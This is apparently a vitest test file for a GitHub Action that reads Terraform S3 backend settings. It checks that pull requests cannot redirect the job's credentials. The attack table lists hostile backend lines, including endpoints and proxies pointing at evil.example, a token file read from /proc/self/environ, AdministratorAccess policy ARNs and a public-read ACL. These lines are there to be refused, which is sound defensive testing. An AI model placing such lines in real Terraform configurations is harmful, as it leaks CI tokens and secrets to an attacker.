// biome-ignore-all lint/suspicious/noTemplateCurlyInString: HCL has them, too
import { symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BACKEND_INPUTS } from '../../src/inputs/backend-block/arguments.ts';
import { findRestriction } from '../../src/inputs/backend-block/trust.ts';
import { readBackendInputs } from '../../src/inputs/backend-inputs.ts';
import { inputEnv, job, openReader } from '../job-state/support.ts';
import { folderWith } from '../support/terraform-backend.ts';

const ROLE = 'role_arn = "arn:aws:iam::111122223333:role/r"';
const OIDC = { ACTIONS_ID_TOKEN_REQUEST_URL: 'https://t', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'bearer' };
const EVIL = 'https://evil.example';

/** What a pull request may write into a backend block, and the equivalent input. */
const ATTACKS: readonly (readonly [what: string, line: string, input: string])[] = [
  ["the job's OIDC token goes to its own STS", `endpoints = { sts = "${EVIL}" }`, 'sts_endpoint'],
  ['the same by the old name', `sts_endpoint = "${EVIL}"`, 'sts_endpoint'],
  ['SSE-C key and session token go to its own S3', `endpoints = { s3 = "${EVIL}" }`, 'endpoint'],
  ['the same by the old name of S3', `endpoint = "${EVIL}"`, 'endpoint'],
  ["the lock table is the attacker's", `endpoints = { dynamodb = "${EVIL}" }`, 'dynamodb_endpoint'],
  ['the same by the old name of the table', `dynamodb_endpoint = "${EVIL}"`, 'dynamodb_endpoint'],
  ['requests go through its proxy', 'https_proxy = "http://evil.example:3128"', 'https_proxy'],
  ['plain requests go through its proxy', 'http_proxy = "http://evil.example:3128"', 'http_proxy'],
  ["the company's proxy is bypassed", 'no_proxy = "*"', 'no_proxy'],
  ["the company's proxy is removed", 'https_proxy = ""', 'https_proxy'],
  ['its own certificate authority is trusted', 'custom_ca_bundle = "evil.pem"', 'custom_ca_bundle'],
  ['no certificate is checked', 'insecure = true', 'insecure'],
  ['the same as a string', 'insecure = "1"', 'insecure'],
  ['a command runs by credential_process', 'profile = "evil"', 'profile'],
  ['its own config file counts', 'shared_config_files = ["aws.ini"]', 'shared_config_files'],
  ['its own keys count', 'shared_credentials_files = ["aws.ini"]', 'shared_credentials_files'],
  ['the same by the old name of the file', 'shared_credentials_file = "aws.ini"', 'shared_credentials_file'],
  [
    "the process's environment goes to STS as a token",
    `assume_role_with_web_identity = { ${ROLE}, web_identity_token_file = "/proc/self/environ" }`,
    'web_identity_token_file',
  ],
  [
    'credentials come from its own host',
    `ec2_metadata_service_endpoint = "${EVIL}"`,
    'ec2_metadata_service_endpoint',
  ],
  [
    'credentials come from its IPv6 address',
    'ec2_metadata_service_endpoint_mode = "IPv6"',
    'ec2_metadata_service_endpoint_mode',
  ],
  ["the machine's own role is used", 'skip_metadata_api_check = false', 'skip_metadata_api_check'],
  ['a key id blinds the log', 'access_key = "a"', 'access_key'],
  ['requests are signed with its own secret key', 'secret_key = "s"', 'secret_key'],
  ['a token blinds the log', 'token = "Terraform"', 'token'],
  ['the session policy is replaced', `assume_role = { ${ROLE}, policy = "{}" }`, 'assume_role_policy'],
  ['the same by the old name of the policy', 'assume_role_policy = "{}"', 'assume_role_policy'],
  [
    'the session policy is replaced by a managed one',
    `assume_role = { ${ROLE}, policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"] }`,
    'assume_role_policy_arns',
  ],
  [
    'the same by the old name of the list',
    'assume_role_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]',
    'assume_role_policy_arns',
  ],
  ['the state is public', 'acl = "public-read"', 'acl'],
  ['an expression hides it', 'acl = "${"public-read"}"', 'acl'],
];

interface Checkout {
  readonly files: Record<string, string>;
  readonly inputs?: Record<string, string>;
  readonly env?: Record<string, string>;
}

const block = (...lines: string[]) =>
  ['terraform {', '  backend "s3" {', ...lines.map((line) => `    ${line}`), '  }', '}', ''].join('\n');
const SCOPE = ['bucket = "b"', 'key = "k"', 'region = "eu-west-1"'];

async function readCheckout({ files, inputs = {}, env = {} }: Checkout) {
  return readIn(await folderWith({ 'infra/.keep': '', ...files }), inputs, env);
}

async function readIn(workspace: string, inputs: Record<string, string>, env: Record<string, string> = {}) {
  const all = { ...env, ...inputEnv({ working_directory: 'infra', ...inputs }) };
  const { reader, log, masks } = await openReader(all, { workspace });
  const { settings } = readBackendInputs(reader, { ...job, workspace }, undefined);
  return { reader, settings, log, masks, problems: reader.problems };
}

const reported = ({ problems }: Awaited<ReturnType<typeof readIn>>) =>
  problems.map(({ input, fix }) => `${input}: ${fix}`);

/** The problems of one refused argument: it by its place, and once what else can be done. */
const refusal = (input: string, scope: string, from = 'working_directory') => [
  expect.stringMatching(new RegExp(`^${from}: ${scope}: .*: give the input \`${input}\` instead$`)),
  expect.stringMatching(/^trust_repository: .*trust_repository: true allows/),
];

describe('a backend block of a pull request', () => {
  it.each(ATTACKS)('%s: %s', async (_, line, input) => {
    const attacked = await readCheckout({ files: { 'infra/main.tf': block(...SCOPE, line) } });
    expect(reported(attacked)).toEqual(refusal(input, join('infra', 'main.tf').concat(':6')));
    expect(attacked.reader.text(input)).toBeUndefined();
    expect(attacked.masks).toEqual([]);
    expect(Math.max(...reported(attacked).map((text) => text.length))).toBeLessThan(300);
  });

  it.each(ATTACKS)('%s: %s, in a file that backend_config names', async (_, line, input) => {
    const attacked = await readCheckout({
      files: { 'infra/main.tf': block(...SCOPE), 'infra/prod.hcl': `${line}\n` },
      inputs: { backend_config: 'prod.hcl' },
    });
    expect(reported(attacked)).toEqual(refusal(input, 'prod.hcl:1', 'backend_config'));
  });

  it.each(ATTACKS)('%s: %s, beside all inputs of that kind, which alone count', async (_, line) => {
    const inputs = {
      endpoint: 'https://s3.example',
      dynamodb_endpoint: 'https://ddb.example',
      sts_endpoint: 'https://sts.example',
      http_proxy: 'http://proxy.example',
      https_proxy: 'http://proxy.example',
      no_proxy: 'a.example',
      custom_ca_bundle: '/none.pem',
      insecure: 'false',
      profile: 'ours',
      shared_config_files: '/ours',
      shared_credentials_files: '/ours',
      web_identity_token_file: '/token',
      skip_metadata_api_check: 'true',
      ec2_metadata_service_endpoint: 'http://m',
      ec2_metadata_service_endpoint_mode: 'IPv4',
      access_key: 'AKIAOURSOURSOURS',
      secret_key: 'ours',
      assume_role_policy: '{}',
      assume_role_policy_arns: 'arn:aws:iam::aws:policy/ReadOnlyAccess',
      acl: 'private',
    };
    const plain = await readCheckout({ files: { 'infra/main.tf': block(...SCOPE) }, inputs });
    const beside = await readCheckout({ files: { 'infra/main.tf': block(...SCOPE, line) }, inputs });
    expect(reported(beside).filter((text) => /trust_repository|main\.tf/.test(text))).toEqual([]);
    expect({ ...beside.settings.aws, credentials: 0 }).toEqual({ ...plain.settings.aws, credentials: 0 });
    expect(beside.settings.aws.credentials.static).toEqual(plain.settings.aws.credentials.static);
    expect(beside.settings.objects).toEqual(plain.settings.objects);
  });

  it('trust_repository: only true lets all of it count', async () => {
    const files = {
      'infra/main.tf': block(...SCOPE, `endpoints = { s3 = "${EVIL}" }`, 'acl = "public-read"'),
    };
    const trusted = await readCheckout({ files, inputs: { trust_repository: 'true' } });
    expect(reported(trusted)).toEqual([]);
    expect(trusted.settings.aws.endpoints.s3).toBe(EVIL);
    const odd = await readCheckout({ files, inputs: { trust_repository: 'yes' } });
    expect(reported(odd)[0]).toBe('trust_repository: use true or false');
    expect(reported(odd).length).toBeGreaterThan(3);
  });

  it('lines of backend_config come from the workflow and remove an argument of the block', async () => {
    const files = {
      'infra/main.tf': block(...SCOPE, `endpoints = { s3 = "${EVIL}" }`, 'profile = "laptop"'),
    };
    const lines = 'endpoints={ s3 = "https://s3.example" }\nprofile=\nacl=private';
    const { settings, problems } = await readCheckout({ files, inputs: { backend_config: lines } });
    expect(problems).toEqual([]);
    expect(settings.aws.endpoints.s3).toBe('https://s3.example');
    expect(settings.objects.acl).toBe('private');
  });

  it('the error asks once for everything that must come from the workflow', async () => {
    const all = [`sts_endpoint = "${EVIL}"`, 'insecure = true', 'acl = "public-read"'];
    const attacked = await readCheckout({ files: { 'infra/main.tf': block(...SCOPE, ...all) } });
    expect(reported(attacked)).toHaveLength(4);
    expect(reported(attacked).filter((text) => text.startsWith('trust_repository'))).toHaveLength(1);
  });

  it.each([
    'insecure = false',
    'skip_metadata_api_check = true',
    'profile = null',
    'shared_config_files = []',
    'acl = ""',
    'acl = "private"',
    // Nothing ever goes to this host.
    `iam_endpoint = "${EVIL}"`,
    `endpoints = { iam = "${EVIL}" }`,
  ])('%s is harmless and accepted', async (line) => {
    expect(reported(await readCheckout({ files: { 'infra/main.tf': block(...SCOPE, line) } }))).toEqual([]);
  });

  it("still sets the state's location, its lock and encryption, and the role", async () => {
    const lines = [
      ...SCOPE,
      'dynamodb_table = "locks"',
      'use_lockfile = true',
      'encrypt = true',
      'kms_key_id = "alias/k"',
      'workspace_key_prefix = "p"',
      'use_path_style = true',
      'allowed_account_ids = ["111122223333"]',
      `assume_role = { ${ROLE}, external_id = "x1", session_name = "n1", duration = "15m" }`,
    ];
    const { settings, problems } = await readCheckout({
      files: { 'infra/main.tf': block(...lines) },
      env: { TF_WORKSPACE: 'dev' },
    });
    expect(problems).toEqual([]);
    expect(settings).toMatchObject({
      address: { bucket: 'b', objectKey: 'p/dev/k' },
      table: 'locks',
      useLockfile: true,
      objects: { encrypt: true, kmsKeyId: 'alias/k' },
      aws: {
        region: 'eu-west-1',
        credentials: { assumeRole: { roleArn: 'arn:aws:iam::111122223333:role/r', externalId: 'x1' } },
      },
    });
  });

  it("can't set a region that would form another host, even if validation is skipped", async () => {
    for (const region of ['x@evil.example/', 'x.evil.example#', 'evil.example', '-x', 'a'.repeat(64)]) {
      for (const name of ['region', 'sts_region']) {
        const lines = [...SCOPE.filter((line) => !line.startsWith(`${name} `)), `${name} = "${region}"`];
        const attacked = await readCheckout({
          files: { 'infra/main.tf': block(...lines, 'skip_region_validation = true') },
        });
        expect(attacked.problems, region).toMatchObject([
          { input: name, value: expect.stringContaining(region.slice(0, 40)) },
        ]);
      }
    }
  });

  it("can't register ordinary log text as a key, which would make the log unreadable", async () => {
    const { masks } = await readCheckout({
      files: { 'infra/main.tf': block(...SCOPE, 'sse_customer_key = "Terraform"') },
    });
    expect(masks).toEqual([]);
  });
});

describe('a profile and shared files for laptops', () => {
  const files = {
    'infra/main.tf': block(...SCOPE, 'profile = "laptop"', 'shared_config_files = ["~/.aws/laptops"]'),
  };
  const roleFiles = { 'infra/main.tf': block(...SCOPE, 'profile = "laptop"', ROLE) };

  it.each([
    ['keys as inputs', files, { access_key: 'AKIAOURSOURSOURS', secret_key: 's' }, {}, '`access_key`'],
    ['another profile as an input', files, { profile: 'ci' }, {}, '`profile`'],
    ['files as inputs', files, { shared_config_files: '/c' }, {}, '`shared_config_files`'],
    [
      'keys in the environment',
      files,
      {},
      { AWS_ACCESS_KEY_ID: 'AKIA', AWS_SECRET_ACCESS_KEY: 's' },
      'AWS_ACCESS_KEY_ID',
    ],
    ['a profile in the environment', files, {}, { AWS_PROFILE: 'ci' }, 'AWS_PROFILE'],
    ["the job's own identity and the block's role", roleFiles, {}, OIDC, 'OIDC'],
    ["the job's own identity and the input's role", files, { role_arn: ROLE.slice(12, -1) }, OIDC, 'OIDC'],
    [
      'a token file as an input',
      roleFiles,
      { web_identity_token_file: '/t' },
      {},
      '`web_identity_token_file`',
    ],
  ])('are ignored with a notice when the workflow brings %s', async (_, checkout, inputs, env, why) => {
    const { problems, settings, log } = await readCheckout({ files: checkout, inputs, env });
    expect(problems).toEqual([]);
    expect(settings.aws.credentials.profile).toBe('profile' in inputs ? 'ci' : undefined);
    const notices = log.filter((line) => line.includes('has no effect here'));
    expect(notices.length).toBeGreaterThan(0);
    for (const notice of notices) expect(notice).toMatch(/^infra.main\.tf:\d: \w+ has no effect/);
    expect(notices.join('\n')).toContain(why);
  });

  it('are refused when there is an identity but no role, since that is no credential', async () => {
    expect(reported(await readCheckout({ files, env: OIDC }))).toHaveLength(3);
  });
});

describe('files that backend_config names', () => {
  const EVIL_FILE = `endpoints = { sts = "${EVIL}" }\n`;

  it('come from the workflow when they are outside the checkout, as in RUNNER_TEMP', async () => {
    const temp = await folderWith({ 'prod.hcl': EVIL_FILE });
    const { problems, settings } = await readCheckout({
      files: { 'infra/main.tf': block(...SCOPE) },
      inputs: { backend_config: join(temp, 'prod.hcl') },
    });
    expect(problems).toEqual([]);
    expect(settings.aws.endpoints.sts).toBe(EVIL);
  });

  it.each(['in', 'out'])('come from the repository when a link leads %s of the checkout', async (way) => {
    const temp = await folderWith({ 'prod.hcl': EVIL_FILE });
    const workspace = await folderWith({ 'infra/main.tf': block(...SCOPE), 'evil.hcl': EVIL_FILE });
    const links = {
      in: [join(workspace, 'evil.hcl'), join(temp, 'link.hcl')],
      out: [join(temp, 'prod.hcl'), join(workspace, 'link.hcl')],
    };
    const [target = '', link = ''] = way === 'in' ? links.in : links.out;
    await symlink(target, link);
    const attacked = await readIn(workspace, { backend_config: link });
    expect(reported(attacked)).toEqual(refusal('sts_endpoint', '.*link.hcl:1', 'backend_config'));
  });

  it('come from the repository when the path leaves the checkout and returns', async () => {
    const workspace = await folderWith({ 'infra/main.tf': block(...SCOPE), 'evil.hcl': EVIL_FILE });
    const name = workspace.split(/[\\/]/).at(-1) ?? '';
    const attacked = await readIn(workspace, { backend_config: join('..', '..', name, 'evil.hcl') });
    expect(reported(attacked)).toHaveLength(2);
  });
});

it('every backend setting is classified: open to the repository or reserved to the workflow', () => {
  const ofTheWorkflow = BACKEND_INPUTS.filter((input) => findRestriction(input) !== undefined);
  const attacked = new Set(ATTACKS.map(([, , input]) => input));
  const twins = ['assume_role_with_web_identity.policy', 'assume_role_with_web_identity.policy_arns'];
  expect(ofTheWorkflow.filter((input) => !attacked.has(input)).sort()).toEqual(twins);
  expect(findRestriction('an_argument_of_tomorrow')).toBeDefined();
});

it('policies of a web identity’s block come from a backend_config line, since they have no input', async () => {
  const lines = [`assume_role_with_web_identity = { ${ROLE}, policy = "{}" }`];
  const attacked = await readCheckout({ files: { 'infra/main.tf': block(...SCOPE, ...lines) } });
  expect(reported(attacked)[0]).toContain(
    'give the line assume_role_with_web_identity={ ... } of backend_config',
  );
});
